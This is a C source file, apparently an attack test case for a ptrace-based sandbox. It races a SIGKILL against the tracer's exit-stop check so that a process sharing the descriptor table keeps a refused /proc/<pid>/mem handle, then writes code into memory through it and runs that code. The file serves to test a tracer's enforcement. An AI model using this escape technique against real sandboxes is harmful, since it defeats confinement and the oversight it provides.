/*
 * Attack: the opener dies at its exit stop, before the tracer closes the
 * descriptor it refused, and a process sharing its descriptor table keeps
 * it.
 *
 * The program makes C, a process sharing its descriptor table
 * (clone CLONE_FILES), and K, a plain child. Main opens /proc/<C>/mem
 * O_RDWR. K spins reading /proc/<program>/fd/<the number the open gets>
 * and SIGKILLs the program the moment it names a mem file: a tracer that
 * judges the open at its exit stop is then still deciding, and cannot close
 * the descriptor in a thread that is gone. C spins on the same number in
 * the table it shares and, once it is a mem file, pwrites TW_CODE over its
 * own tw_patch_target through it and calls it (RAN opener_killed_call).
 * The program itself dies (natively too: K kills it).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <time.h>

#include "common.h"

TW_DEFINE_PATCH_TARGET;

int main(void)
{
	char path[64];
	pid_t program = getpid(), sharer, killer;
	int fd;

	tw_init();
	fd = dup(0);
	close(fd); /* the lowest free descriptor: the open's */
	sharer = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	if (sharer == 0) {
		if (tw_wait_mem(getpid(), fd, 5) &&
		    pwrite(fd, TW_CODE, sizeof(TW_CODE), (off_t)(uintptr_t)tw_patch_target) ==
			    (ssize_t)sizeof(TW_CODE))
			tw_run("opener_killed_call", (const void *)tw_patch_target);
		_exit(0);
	}
	killer = fork();
	if (killer == 0) {
		if (tw_wait_mem(program, fd, 5))
			kill(program, SIGKILL);
		_exit(0);
	}
	usleep(100000); /* both spinning */
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)sharer);
	fd = open(path, O_RDWR);
	tw_step("killed_open", "open", fd, errno);
	/* Under a tracer that refused it, nobody kills the program: let the
	 * others end first, then say so. */
	tw_wait_child("sharer", sharer);
	tw_wait_child("killer", killer);
	return tw_done();
}
